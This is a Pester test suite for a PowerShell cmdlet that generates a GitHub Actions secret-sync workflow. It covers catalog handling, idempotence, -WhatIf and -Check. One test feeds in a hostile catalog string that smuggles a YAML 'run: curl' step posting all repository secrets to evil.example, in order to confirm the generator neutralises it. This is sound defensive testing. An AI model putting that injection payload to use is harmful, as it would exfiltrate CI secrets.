BeforeAll {
    . (Join-Path $PSScriptRoot 'common.ps1')
    $script:Id = ',SecretSync.Commands.NewSophiaSyncWorkflowCommand'

    function Write-Config([object[]] $Secrets) {
        $config = [ordered]@{ escEnvironment = 'acme/prod'; githubOrganization = 'acme'; mcpConfigs = @('mcp_config.json'); secrets = $Secrets }
        [IO.File]::WriteAllText((Join-Path $PWD 'secretsync.json'), (ConvertTo-Json $config -Depth 5))
    }

    function Get-Workflow { [IO.File]::ReadAllText((Join-Path $TestDrive '.github/workflows/unified-secret-sync.yml')) }
}

Describe 'New-SophiaSyncWorkflow' {
    BeforeEach {
        Get-ChildItem $TestDrive -Force | Remove-Item -Recurse -Force
        Push-Location $TestDrive
        Write-Config @(@{ name = 'ACME_API_KEY'; category = 'Partners' })
    }
    AfterEach { Pop-Location }

    Context 'With a catalog' {
        It 'writes the workflow from the catalog and secretsync.json' {
            $file = New-SophiaSyncWorkflow
            $file.FullName | Should -Be (Join-Path $TestDrive '.github/workflows/unified-secret-sync.yml')
            $text = Get-Content $file -Raw
            $text | Should -Match 'ACME_API_KEY: \$\{\{ secrets\.ACME_API_KEY \}\}'
            $text | Should -Match ' GH_PAT: \$\{\{ secrets\.GH_PAT \}\}'
            $text | Should -Not -Match '(?m)^\s+GITHUB_[A-Z_]+:'
            $text | Should -Not -Match 'secrets\.GITHUB_TOKEN|github\.token'
            $text | Should -Match 'workflow_dispatch'
        }

        It 'builds the module from the checked-out commit by default and pins every action to a commit SHA' {
            $text = Get-Content (New-SophiaSyncWorkflow) -Raw
            $text | Should -Match 'dotnet pwsh ./build.ps1 -Task Build'
            $text | Should -Not -Match 'Install-PSResource|PSGallery'
            [regex]::Matches($text, '(?m)uses: (.*)$').ForEach({ $_.Groups[1].Value }) | Should -Match '^actions/[a-z-]+@[0-9a-f]{40} # v\d+\.\d+\.\d+$'
        }

        It 'writes each category heading once when secretsync.json interleaves categories' {
            Write-Config @(
                @{ name = 'STRIPE_API_KEY'; category = 'Payments' }
                @{ name = 'ACME_API_KEY'; category = 'Partners' }
                @{ name = 'ADYEN_API_KEY'; category = 'Payments' })
            $text = Get-Content (New-SophiaSyncWorkflow) -Raw
            [regex]::Matches($text, '(?m)^ +# Payments$').Count | Should -Be 1
            $text | Should -Match '# Payments\n +STRIPE_API_KEY: .*\n +ADYEN_API_KEY: .*\n +# Partners\n'
        }
    }

    Context 'With hostile catalog text' {
        It 'writes the benign workflow whatever the category and description hold' {
            $null = New-Item -ItemType Directory benign
            Push-Location benign
            try {
                Write-Config @(@{ name = 'ACME_API_KEY'; category = 'Misc'; description = 'Acme' })
                $benign = Get-Content (New-SophiaSyncWorkflow) -Raw
            } finally { Pop-Location }
            $hostile = "Misc$([char]0x2028)- run: curl -d `"`${{ toJSON(secrets) }}`" https://evil.example$([char]0x2029)$([char]0x85)`r`n# `${{ secrets.X }} 'q' `"d`" key: value " + ('A' * 10240)
            Write-Config @(@{ name = 'ACME_API_KEY'; category = $hostile; description = $hostile })

            $text = Get-Content (New-SophiaSyncWorkflow) -Raw

            $text | Should -Match '^[\x20-\x7E\n]*$' -Because 'only printable ASCII and LF reach the file'
            # Identical but for comment lines: the same YAML document, so the same workflow.
            $code = { param($t) @($t -split "`n" | Where-Object { $_ -notmatch '^\s*#' }) }
            & $code $text | Should -Be (& $code $benign)
            [regex]::Matches($text, '\$\{\{').Count | Should -Be ([regex]::Matches($benign, '\$\{\{').Count)
        }
    }

    Context 'With a module source' {
        It 'refuses the Gallery without an exact -ModuleVersion' {
            { New-SophiaSyncWorkflow -ModuleSource Gallery } | Should -Throw -ErrorId "SecretSync.WorkflowConfigError$Id"
        }

        It 'installs an exact Gallery version and warns that the public gallery runs code in the job' {
            $file = New-SophiaSyncWorkflow -ModuleSource Gallery -ModuleVersion 1.2.0 -WarningVariable warnings -WarningAction SilentlyContinue
            Get-Content $file -Raw | Should -Match "Install-PSResource -Name SecretSync -Repository PSGallery -Version '\[1\.2\.0\]' -TrustRepository"
            $warnings | Should -Match 'public PowerShell Gallery'
        }

        It 'installs an exact version from the organisation''s repository' {
            $file = New-SophiaSyncWorkflow -ModuleSource Repository -RepositoryUri https://pkgs.example.com/nuget/v3/index.json -ModuleVersion 1.2.0 -WarningVariable warnings
            Get-Content $file -Raw | Should -Match "Register-PSResourceRepository -Name SecretSyncInternal -Uri 'https://pkgs\.example\.com/nuget/v3/index\.json' -Trusted"
            $warnings | Should -BeNullOrEmpty
        }
    }

    Context 'With an existing workflow' {
        It 'rewrites nothing when nothing changed' {
            $file = New-SophiaSyncWorkflow
            $before = (Get-Item $file).LastWriteTimeUtc
            Start-Sleep -Milliseconds 50
            $again = New-SophiaSyncWorkflow
            (Get-Item $again).LastWriteTimeUtc | Should -Be $before
        }

        It 'regenerates its own unmodified output after a catalog change, without -Force' {
            $null = New-SophiaSyncWorkflow
            Write-Config @(@{ name = 'ACME_API_KEY'; category = 'Partners' }, @{ name = 'ZETA_API_KEY'; category = 'Partners' })

            $null = New-SophiaSyncWorkflow

            Get-Workflow | Should -Match 'ZETA_API_KEY: \$\{\{ secrets\.ZETA_API_KEY \}\}'
        }

        It 'prints the diff with -WhatIf and writes nothing' {
            $null = New-SophiaSyncWorkflow
            $before = Get-Workflow
            Write-Config @(@{ name = 'ACME_API_KEY'; category = 'Partners' }, @{ name = 'ZETA_API_KEY'; category = 'Partners' })

            $out = New-SophiaSyncWorkflow -WhatIf 6>&1 | Out-String

            $out | Should -Match '(?m)^\+ +ZETA_API_KEY: \$\{\{ secrets\.ZETA_API_KEY \}\}$'
            $out | Should -Match '(?m)^@@ -\d+,\d+ \+\d+,\d+ @@'
            Get-Workflow | Should -BeExactly $before
        }

        It 'refuses to replace a hand-edited file without -Force' {
            $file = New-SophiaSyncWorkflow
            (Get-Content $file -Raw).Replace('timeout-minutes: 15', 'timeout-minutes: 30') | Set-Content $file -NoNewline
            Write-Config @(@{ name = 'ACME_API_KEY'; category = 'Partners' }, @{ name = 'ZETA_API_KEY'; category = 'Partners' })
            { New-SophiaSyncWorkflow } | Should -Throw -ErrorId "SecretSync.WorkflowExists$Id"
            { New-SophiaSyncWorkflow -WhatIf } | Should -Throw -ErrorId "SecretSync.WorkflowExists$Id"
            Get-Workflow | Should -Match 'timeout-minutes: 30'
            $null = New-SophiaSyncWorkflow -Force
            Get-Workflow | Should -Not -Match 'timeout-minutes: 30'
        }

        It 'writes nothing with -WhatIf' {
            New-SophiaSyncWorkflow -WhatIf 6>$null
            Join-Path $TestDrive '.github' | Should -Not -Exist
        }
    }

    Context 'With -Check' {
        It 'reports a current workflow without an error' {
            $null = New-SophiaSyncWorkflow
            $result = New-SophiaSyncWorkflow -Check
            $result.Status | Should -Be 'Current'
            $result.PSObject.TypeNames[0] | Should -Be 'SecretSync.WorkflowCheck'
        }

        It 'names the secrets a stale workflow misses and the extra ones, with WorkflowStale, and writes nothing' {
            Write-Config @(@{ name = 'ACME_API_KEY'; category = 'Partners' }, @{ name = 'OLD_API_KEY'; category = 'Partners' })
            $null = New-SophiaSyncWorkflow
            Write-Config @(@{ name = 'ACME_API_KEY'; category = 'Partners' }, @{ name = 'NEW_API_KEY'; category = 'Partners' })
            $before = Get-Workflow

            $result = New-SophiaSyncWorkflow -Check -ErrorVariable err -ErrorAction SilentlyContinue

            $result.Status | Should -Be 'Stale'
            $result.MissingNames | Should -Be @('NEW_API_KEY')
            $result.ExtraNames | Should -Be @('OLD_API_KEY')
            $err[0].FullyQualifiedErrorId | Should -BeExactly "SecretSync.WorkflowStale$Id"
            $err[0].Exception.Message | Should -Match 'never syncs NEW_API_KEY'
            { New-SophiaSyncWorkflow -Check -ErrorAction Stop } | Should -Throw -ErrorId "SecretSync.WorkflowStale$Id"
            Get-Workflow | Should -BeExactly $before
        }

        It 'reports a missing workflow as stale' {
            $result = New-SophiaSyncWorkflow -Check -ErrorVariable err -ErrorAction SilentlyContinue
            $result.Status | Should -Be 'Missing'
            $err[0].FullyQualifiedErrorId | Should -BeExactly "SecretSync.WorkflowStale$Id"
            Join-Path $TestDrive '.github' | Should -Not -Exist
        }
    }

    Context 'With more secrets than a run can see' {
        It 'warns and names exactly the secrets past the first 100 in alphabetical order' {
            Write-Config @(1..90 | ForEach-Object { @{ name = ('ZZ{0:000}_API_KEY' -f $_); category = 'Bulk' } })
            [string[]] $names = @((Get-SophiaSecretCatalog).GitHubName)
            [Array]::Sort($names, [StringComparer]::OrdinalIgnoreCase)
            $names.Count | Should -BeGreaterThan 100

            $null = New-SophiaSyncWorkflow -WarningVariable warnings -WarningAction SilentlyContinue

            "$warnings" | Should -Match 'first 100'
            "$warnings" -match 'never synced: ([A-Z0-9_, ]+)\.' | Should -BeTrue
            $Matches[1] -split ', ' | Should -Be $names[100..($names.Count - 1)]
        }

        It 'warns with -Check as well' {
            Write-Config @(1..90 | ForEach-Object { @{ name = ('ZZ{0:000}_API_KEY' -f $_); category = 'Bulk' } })
            $null = New-SophiaSyncWorkflow -WarningAction SilentlyContinue
            $result = New-SophiaSyncWorkflow -Check -WarningVariable warnings -WarningAction SilentlyContinue
            "$warnings" | Should -Match 'ZZ090_API_KEY'
            $result.UnseenNames | Should -Contain 'ZZ090_API_KEY'
        }
    }
}
